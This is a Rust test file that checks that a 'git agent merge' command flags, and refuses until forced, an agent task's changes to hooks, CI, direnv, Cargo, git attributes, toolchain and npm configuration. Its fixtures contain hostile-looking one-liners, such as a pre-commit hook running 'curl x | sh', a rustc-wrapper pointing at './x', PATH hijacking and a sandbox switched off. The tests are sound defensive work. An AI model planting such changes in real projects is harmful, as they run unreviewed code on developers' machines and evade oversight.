//! `git agent merge` flags a task's changes to what runs on the next checkout, build or CI
//! run: git-agent and git configuration, hooks, CI, direnv, Cargo and editor tasks.

use pretty_assertions::assert_eq;

use crate::common::{TestEnv, get, worktree};

fn write(dir: &std::path::Path, path: &str, text: &str) {
    let path = dir.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[test]
fn merge_refuses_changes_to_configuration_hooks_and_ci_until_forced() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    write(&repo, ".github/workflows/ci.yml", "on: push\n");
    write(&repo, ".gitlab-ci.yml", "test:\n  script: make\n");
    env.git(&repo, &["add", "-A"]);
    env.git(&repo, &["commit", "-qm", "ci"]);
    env.agent_ok(&repo, &["start", "--name", "f", "--no-run", "goal"]);
    let wt = worktree(&repo, "f");
    write(&wt, ".github/workflows/ci.yml", "on: push\njobs: {}\n");
    std::fs::remove_file(wt.join(".gitlab-ci.yml")).unwrap();
    write(&wt, ".git-agent.toml", "sandbox = \"off\"\n");
    write(&wt, "src/.gitattributes", "*.rs filter=evil\n");
    write(&wt, ".husky/pre-commit", "curl x | sh\n");
    write(&wt, ".envrc", "export PATH=.:$PATH\n");
    write(
        &wt,
        "tools/.cargo/config.toml",
        "[build]\nrustc-wrapper = \"./x\"\n",
    );
    write(&wt, ".vscode/tasks.json", "{}\n");
    // Ordinary work and ignore files are not flagged.
    write(
        &wt,
        "src/lib.rs",
        "pub fn add(a: i32, b: i32) -> i32 {\n    b + a\n}\n",
    );
    write(&wt, ".gitignore", "target/\n*.log\n*.tmp\n");
    env.agent_ok(&repo, &["checkpoint", "-m", "changes"]);
    let main_before = env.rev(&repo, "main");

    let (code, _, err) = env.agent(&repo, &["merge", "f"]);
    assert_eq!(code, 1, "{err}");
    let listed: Vec<&str> = err.lines().filter(|l| l.starts_with("  - ")).collect();
    assert_eq!(
        listed,
        [
            "  - changes .envrc (direnv, run on entering the directory)",
            "  - changes .git-agent.toml (git-agent configuration)",
            "  - changes .github/workflows/ci.yml (CI)",
            "  - deletes .gitlab-ci.yml (CI)",
            "  - changes .husky/pre-commit (git hooks)",
            "  - changes .vscode/tasks.json (editor tasks)",
            "  - changes src/.gitattributes (git attributes: filters, diff and merge drivers)",
            "  - changes tools/.cargo/config.toml (Cargo configuration)",
        ],
        "{err}"
    );
    assert!(
        err.contains("hint: these files decide what runs on the next checkout, build or CI run: review them (git agent diff f), then merge with --force to accept them (recorded in an Agent-Forced trailer)"),
        "{err}"
    );
    assert_eq!(env.rev(&repo, "main"), main_before, "nothing merged");

    env.agent_ok(&repo, &["merge", "f", "--force"]);
    let forced = get(&env.trailers(&repo, "main"), "Agent-Forced")
        .unwrap_or_default()
        .to_string();
    for path in [
        ".envrc",
        ".git-agent.toml",
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        ".husky/pre-commit",
        ".vscode/tasks.json",
        "src/.gitattributes",
        "tools/.cargo/config.toml",
    ] {
        assert!(
            forced.contains(path),
            "{path} not in Agent-Forced: {forced}"
        );
    }
    assert_eq!(
        env.git(&repo, &["show", "main:.git-agent.toml"]),
        "sandbox = \"off\"\n"
    );
}

#[test]
fn ordinary_changes_merge_without_a_flag() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    env.agent_ok(&repo, &["start", "--name", "o", "--no-run", "goal"]);
    let wt = worktree(&repo, "o");
    write(
        &wt,
        "src/lib.rs",
        "pub fn add(a: i32, b: i32) -> i32 {\n    b + a\n}\n",
    );
    write(&wt, ".gitignore", "target/\n");
    write(&wt, "docs/github/workflows.md", "# how CI works\n");
    env.agent_ok(&repo, &["checkpoint", "-m", "work"]);
    env.agent_ok(&repo, &["merge", "o"]);
    assert_eq!(get(&env.trailers(&repo, "main"), "Agent-Forced"), None);
}

/// Finding 3 of review round 3: a link that stands for a flagged directory (cargo follows
/// `.cargo -> build-config` to its `config.toml`), a flagged name in another case (a macOS or
/// Windows checkout reads `.ENVRC` as `.envrc`), and the toolchain, LFS, dev container,
/// package manager and mise files are flagged; ordinary build code is not.
#[test]
fn links_to_flagged_directories_other_cases_and_toolchain_files_are_flagged() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    env.agent_ok(&repo, &["start", "--name", "l", "--no-run", "goal"]);
    let wt = worktree(&repo, "l");
    let link =
        |target: &str, path: &str| std::os::unix::fs::symlink(target, wt.join(path)).unwrap();
    write(
        &wt,
        "build-config/config.toml",
        "[build]\nrustc-wrapper = \"./x\"\n",
    );
    link("build-config", ".cargo");
    write(&wt, "ci/workflows/ci.yml", "on: push\n");
    link("ci", ".github");
    write(
        &wt,
        "shared/.cargo/config.toml",
        "[build]\nrustc-wrapper = \"./y\"\n",
    );
    link("../shared", "src/tools");
    write(&wt, ".ENVRC", "export PATH=.:$PATH\n");
    write(&wt, "sub/.GitAttributes", "* filter=evil\n");
    write(
        &wt,
        "rust-toolchain.toml",
        "[toolchain]\npath = \"/proc/self/cwd/t\"\n",
    );
    write(&wt, ".npmrc", "script-shell=./x\n");
    write(&wt, ".devcontainer/devcontainer.json", "{}\n");
    write(&wt, "Makefile", "all:\n\ttrue\n");
    write(&wt, "build.rs", "fn main() {}\n");
    env.agent_ok(&repo, &["checkpoint", "-m", "links"]);

    let (code, _, err) = env.agent(&repo, &["merge", "l"]);
    assert_eq!(code, 1, "{err}");
    let listed: Vec<&str> = err.lines().filter(|l| l.starts_with("  - ")).collect();
    for flagged in [
        "  - changes the link .cargo (Cargo configuration, through the link)",
        "  - changes the link .github (CI, through the link)",
        "  - changes the link src/tools (Cargo configuration, through the link)",
        "  - changes .ENVRC (direnv, run on entering the directory)",
        "  - changes sub/.GitAttributes (git attributes: filters, diff and merge drivers)",
        "  - changes rust-toolchain.toml (Rust toolchain: which cargo and rustc run)",
        "  - changes .npmrc (npm configuration)",
        "  - changes .devcontainer/devcontainer.json (dev container: what an editor builds and runs)",
    ] {
        assert!(listed.contains(&flagged), "{flagged} missing:\n{err}");
    }
    for ordinary in ["Makefile", "build.rs", "build-config", "ci/workflows"] {
        assert!(
            !listed.iter().any(|l| l.contains(ordinary)),
            "{ordinary} flagged:\n{err}"
        );
    }
}
